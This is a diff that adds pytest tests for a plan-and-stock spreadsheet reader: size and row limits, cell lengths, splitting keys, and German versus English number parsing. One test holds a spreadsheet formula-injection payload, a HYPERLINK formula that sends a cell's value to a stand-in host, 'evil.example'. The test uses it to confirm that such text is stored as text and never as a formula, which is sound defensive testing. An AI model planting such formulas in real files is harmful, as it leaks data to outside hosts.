@@ -237,3 +237,127 @@ def test_a_csv_file_far_larger_than_a_plan_is_refused_unread(tmp_path):
         fh.write("M1,LH-200,1\n" * 120_000)  # 1.3 MB
     problems = problems_of(path, "csv", max_rows=100)
     assert len(problems) == 1 and "larger than 1,000,000 bytes" in problems[0][3]
+
+
+# -- bounds (review 16, F4) --------------------------------------------------------------------------------------
+def test_a_workbook_part_declaring_more_than_the_text_bound_is_refused_before_it_is_opened(tmp_path):
+    huge = [[f"M{i}", "x" * 30_000 + str(i), "", "", "2025-04-01"] for i in range(3, 60)]  # 1.7 MB of text
+    path = book(tmp_path, Milestones=[*MILESTONES, *huge])  # compressed to a few KB: the declared size counts
+    assert path.stat().st_size < 200_000
+    with pytest.raises(PlanError) as err:
+        read_workbook(path, "xlsx", RULES, max_rows=1000, max_bytes=1_000_000)
+    (problem,) = err.value.problems
+    assert "the workbook is not read" in problem[3] and "DMS_MAX_TEXT_MB" in problem[3]
+
+
+def test_blank_rows_count_against_plan_max_rows(tmp_path):
+    materials = [*MATERIALS, *([" "] for _ in range(50))]  # 15 rows of plan, then 50 rows of a space
+    problems = problems_of(book(tmp_path, Materials=materials), max_rows=40)
+    assert any(p[0] == "Materials" and "more than 40 rows" in p[3] for p in problems)
+    assert read_workbook(book(tmp_path, "ok.xlsx", Materials=materials), "xlsx", RULES, max_rows=100).materials
+
+
+def test_a_cell_longer_than_a_plan_cell_is_refused_naming_row_and_column(tmp_path):
+    long_name = "Design freeze " * 200  # 2,800 characters
+    milestones = [MILESTONES[0], ["M1", long_name, "", "", "2025-02-01", "", "", ""], MILESTONES[2]]
+    problems = problems_of(book(tmp_path, Milestones=milestones))
+    assert [p[:3] for p in problems] == [("Milestones", 2, "B")]
+    assert f"{vocab.MAX_CELL_CHARS:,}" in problems[0][3]
+
+
+# -- text is written as text (F5) --------------------------------------------------------------------------------
+def test_text_starting_with_an_equals_sign_is_written_as_text_never_a_formula(tmp_path):
+    plan = sample_plan()
+    plan = replace(plan, title="=2+2", milestones=(replace(plan.milestones[0], phase="=1+1"), plan.milestones[1]),
+                   materials=(replace(plan.materials[0], description='=HYPERLINK("http://evil.example/?"&B2,"x")'),
+                              plan.materials[1]))
+    write_workbook(plan, tmp_path / "plan.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "plan.xlsx")
+    assert [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
+    assert wb["Milestones"]["C2"].value == "=1+1"
+    back = read_workbook(tmp_path / "plan.xlsx", "xlsx", RULES, max_rows=1000)
+    assert (back.title, back.milestones[0].phase) == ("=2+2", "=1+1")
+    assert back.materials[0].description.startswith("=HYPERLINK(")
+    write_template(tmp_path / "template.xlsx")  # the template's title formula stays the one formula
+    formulas = [c.value for ws in openpyxl.load_workbook(tmp_path / "template.xlsx").worksheets
+                for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == [TITLE_FORMULA]
+
+
+# -- lists in a cell (F7) ------------------------------------------------------------------------------------------
+def test_milestone_keys_with_spaces_are_split_on_semicolons_and_commas_only():
+    assert vocab.split_keys("Gate 1; Gate  2,M3") == ("Gate 1", "Gate 2", "M3")
+    assert vocab.split_keys(vocab.join_keys(("Gate 1", "Gate 2"))) == ("Gate 1", "Gate 2")
+
+
+# -- numbers: one reader for plans and supply (F8), and 1.000 (F11) --------------------------------------------------
+def _quantity_of(tmp_path, written, name="plan.xlsx", **changes) -> float:
+    materials = [MATERIALS[0], ["M2", "LH-200", "", written, "pcs", "", ""]]
+    return read_workbook(book(tmp_path, name, Materials=materials, **changes), "xlsx", RULES,
+                         max_rows=1000).materials[0].quantity
+
+
+@pytest.mark.parametrize("written,value", [("1.234,5", 1234.5), ("1,234.5", 1234.5), ("12,5", 12.5),
+                                           ("1 234", 1234), ("1'234", 1234), ("800", 800)])
+def test_a_plan_and_a_stock_report_read_the_same_number_the_same_way(tmp_path, written, value):
+    from dms.supply import cells
+
+    assert _quantity_of(tmp_path, written) == value
+    assert cells.number(written, "on hand") == value
+
+
+def test_one_dot_before_three_digits_is_refused_in_a_plan_that_does_not_write_the_german_way(tmp_path):
+    materials = [MATERIALS[0], ["M2", "LH-200", "", "1.000", "Stk", "", ""]]
+    problems = problems_of(book(tmp_path, Materials=materials))
+    assert [p[:3] for p in problems] == [("Materials", 2, "Quantity")]
+    assert "ambiguous" in problems[0][3] and "write 1000 or 1,0" in problems[0][3]
+
+
+def test_one_dot_before_three_digits_is_a_thousand_in_a_plan_that_writes_german_dates(tmp_path):
+    plan_rows = [[k, "01.02.2025" if k == "Date" else v] for k, v in PLAN_ROWS]
+    assert _quantity_of(tmp_path, "1.000", Plan=plan_rows) == 1000
+
+
+def test_one_dot_before_three_digits_is_a_thousand_in_a_semicolon_csv_plan(tmp_path):
+    path = tmp_path / "plan.csv"
+    path.write_text("[Plan]\nDocument No;PLAN-KX200-2025\nProduct;KX200\nTitle;Kettle plan\n"
+                    "[Milestones]\nKey;Milestone;Date\nM1;Design freeze;2025-02-01\n"
+                    "[Materials]\nMilestone;Part;Quantity;Unit\nM1;FH-310;1.000;Stk\nM1;GS-10;1,000;kg\n"
+                    "[Staff]\nMilestone;Person or role;Hours\nM1;Anna;8\n", encoding="utf-8")
+    plan = read_workbook(path, "csv", RULES, max_rows=1000)
+    assert [(n.part, n.quantity) for n in plan.materials] == [("FH-310", 1000), ("GS-10", 1.0)]
+
+
+def _stock(tmp_path, name: str, text: str):
+    from dms.supply.tables import read_file
+
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    return read_file(path, "csv", RULES.plans.columns(), RULES, max_rows=1000, max_bytes=10_000_000)
+
+
+def test_a_stock_row_with_one_dot_before_three_digits_is_skipped_with_a_warning_unless_the_file_writes_german(
+        tmp_path):
+    english = _stock(tmp_path, "en.csv", "Part,Description,On hand,Unit\nFH-310,Foot,1.000,pcs\n"
+                                          "LH-200,Hinge,12.5,pcs\n")
+    assert [(s.part, s.on_hand) for s in english.stock] == [("LH-200", 12.5)]
+    assert english.bad == 1 and "write 1000 or 1,0" in english.skipped[0]
+    german = _stock(tmp_path, "de.csv", "Part,Description,On hand,Unit\nFH-310,Foot,1.000,pcs\n"
+                                         "GS-10,Gasket,2,5,kg\n".replace("2,5", '"2,5"'))
+    assert [(s.part, s.on_hand) for s in german.stock] == [("FH-310", 1000), ("GS-10", 2.5)]
+    semicolon = _stock(tmp_path, "sc.csv", "Part;Description;On hand;Unit\nFH-310;Foot;1.000;pcs\n")
+    assert [(s.part, s.on_hand) for s in semicolon.stock] == [("FH-310", 1000)]
+
+
+@pytest.mark.parametrize("written,german,english", [
+    ("1.000", 1000, None), ("1,000", 1, 1000), ("1.234,5", 1234.5, 1234.5), ("1,234.5", 1234.5, 1234.5),
+    ("12.5", 12.5, 12.5), ("1.000.000", 1_000_000, None), ("1.23,5", None, None), ("1e5", None, None)])
+def test_the_number_rule_for_files_writing_the_german_way_and_for_the_rest(written, german, english):
+    from dms.plans.numbers import NotANumber, read_number
+
+    for decimal_comma, expected in ((True, german), (False, english)):
+        if expected is None:
+            with pytest.raises(NotANumber):
+                read_number(written, decimal_comma=decimal_comma)
+        else:
+            assert read_number(written, decimal_comma=decimal_comma) == expected
